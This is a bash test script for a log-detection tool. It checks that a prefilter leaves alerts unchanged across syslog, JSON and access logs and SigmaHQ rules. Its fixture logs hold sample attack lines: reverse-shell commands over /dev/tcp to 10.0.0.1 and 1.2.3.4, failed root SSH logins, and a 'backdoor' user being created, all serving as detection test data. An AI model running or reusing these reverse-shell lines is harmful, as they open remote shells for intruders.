#!/bin/bash
# The prefilter must never change what is detected: the same scans with and
# without it (VIGIE_NO_PREFILTER=1) give identical alerts, with the shipped
# rules and with the SigmaHQ rules of the corpus, on syslog, access and
# JSON inputs.
. "$(dirname "$0")/lib.sh"

same() { # same ARGS...: scan with and without the prefilter, compare
    "$VIGIE" scan -q -o json "$@" 2>/dev/null | sed -E 's/"(created|@timestamp)":"[^"]*"//g' >"$T/on"
    VIGIE_NO_PREFILTER=1 "$VIGIE" scan -q -o json "$@" 2>/dev/null | sed -E 's/"(created|@timestamp)":"[^"]*"//g' >"$T/off"
    cmp -s "$T/on" "$T/off"
}

cat >"$T/auth.log" <<'LOG'
Mar  3 10:00:01 web01 sshd[100]: Failed password for root from 203.0.113.5 port 40000 ssh2
Mar  3 10:00:02 web01 sudo[5]:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash
Mar  3 10:00:03 web01 sudo[6]:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
Mar  3 10:00:04 web01 useradd[7]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash
LOG
printf '{"message":"Failed password for root from 1.2.3.4 port 22 ssh2","program":"sshd","host":"a"}\n{"message":"bash -i >\\u0026 /dev/tcp/1.2.3.4/1 0>\\u00261","program":"bash"}\n' >"$T/events.json"
check "shipped rules, syslog" same -r "$ROOT/rules" "$T/auth.log"
check "  ... and it raised alerts" [ -s "$T/off" ]
check "shipped rules, JSON (values unescaped: prefilter bypassed)" same -r "$ROOT/rules" --format json --logsource linux "$T/events.json"
check "  ... and it raised alerts" [ -s "$T/off" ]
if [ -d "$CORPUS/sigma/rules" ]; then
    for f in "$CORPUS"/loghub/*/*_2k.log; do
        check "SigmaHQ + shipped rules on $(basename "$f")" same -r "$ROOT/rules" -r "$CORPUS/sigma/rules" "$f"
    done
    check "SigmaHQ web rules on the honeypot logs" same -r "$ROOT/rules" -r "$CORPUS/sigma/rules" \
        --format access --logsource webserver "$CORPUS"/first-step-for-log-analysis/dataset/httpd/access_log*
    for f in "$ROOT"/tests/fixtures/audit/attack*.log; do
        check "SigmaHQ linux rules on $(basename "$f") (decoded values scanned too)" \
            same -r "$CORPUS/sigma/rules/linux" --format auditd --logsource linux/auditd "$f"
    done
else
    echo "  SKIP corpus comparisons: $CORPUS not found"
fi
finish
